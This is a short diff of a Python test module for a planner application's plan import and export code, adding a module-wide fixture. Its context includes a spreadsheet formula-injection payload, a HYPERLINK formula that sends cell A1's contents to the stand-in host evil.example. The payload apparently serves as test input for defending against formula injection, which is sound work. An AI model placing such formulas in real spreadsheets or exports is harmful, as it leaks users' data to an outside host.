@@ -14,6 +14,10 @@ from planner.plan_io import HEADERS, PlanImportError, Problem, plan_rows, plans_
 from planner.services import project_create
 from tests.conftest import make_user
 
+# One study and its users for the whole module (tests/conftest.py `module_study`); each test's changes
+# are rolled back after it.
+pytestmark = pytest.mark.usefixtures("module_study")
+
 FORMULA = '=HYPERLINK("https://evil.example/?q="&A1;"Klikk her")'
 
 
